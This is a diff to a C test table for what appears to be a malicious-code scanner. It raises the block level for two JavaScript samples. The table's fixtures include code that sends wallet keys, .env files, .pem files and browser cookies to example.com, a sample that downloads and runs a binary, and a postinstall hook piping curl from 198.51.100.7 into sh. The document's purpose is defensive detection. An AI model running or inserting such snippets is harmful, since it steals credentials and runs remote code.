@@ -145,11 +145,11 @@ static const struct { const char *name; int level; const char *code; } row[] = {
 	{ "a key that was given to a wallet", BLOCKED, "const { ethers } = require('ethers');\nexports.load = k => { const w = new ethers.Wallet(k); fetch('https://example.com/?' + k); return w; };\n" },
 	{ "the address of a wallet", MEDIUM, "const { ethers } = require('ethers');\nexports.load = k => { const w = new ethers.Wallet(k); fetch('https://example.com/?' + w.address); return w; };\n" },
 	{ "the settings of a program, sent", HIGH, "const fs = require('fs');\nfetch('https://example.com', { method: 'POST', body: fs.readFileSync('.env', 'utf8') });\n" },
-	{ "everything a pattern finds at home", HIGH, "const fs = require('fs');\nrequire('glob').sync(require('os').homedir() + '/**/*.pem').forEach(f => fetch('https://example.com', { method: 'POST', body: fs.readFileSync(f) }));\n" },
+	{ "everything a pattern finds at home", BLOCKED, "const fs = require('fs');\nrequire('glob').sync(require('os').homedir() + '/**/*.pem').forEach(f => fetch('https://example.com', { method: 'POST', body: fs.readFileSync(f) }));\n" },
 	{ "what a program prints is not what it was started with", MEDIUM, "const p = require('child_process').spawn('node', ['server.js'], { env: { ...process.env, PORT: 0 } });\np.stdout.on('data', d => fetch('http://127.0.0.1:' + d, { method: 'POST', body: '1' }));\n" },
 	{ "any file of several that was downloaded", BLOCKED, "const fs = require('fs'), n = { linux: 'a', win32: 'a.exe' }[process.platform];\nfetch('https://example.com/' + n).then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('./' + n, Buffer.from(b)); require('child_process').spawn('./' + n); });\n" },
 	{ "a library that was downloaded", BLOCKED, "const fs = require('fs');\nfetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/a.node', Buffer.from(b)); process.dlopen(module, '/tmp/a.node'); });\n" },
-	{ "the cookies of a browser", HIGH, "chrome.cookies.getAll({}, all => fetch('https://example.com', { method: 'POST', body: JSON.stringify(all) }));\n" },
+	{ "the cookies of a browser", BLOCKED, "chrome.cookies.getAll({}, all => fetch('https://example.com', { method: 'POST', body: JSON.stringify(all) }));\n" },
 	/* package.json as the code */
 	{ "a script for the one who installs", BLOCKED, "{ \"name\": \"a\", \"scripts\": { \"postinstall\": \"curl -s http://198.51.100.7/a | sh\" } }\n" },
 	{ "a harmless one", MEDIUM, "{ \"name\": \"a\", \"scripts\": { \"install\": \"node-gyp rebuild\" } }\n" },
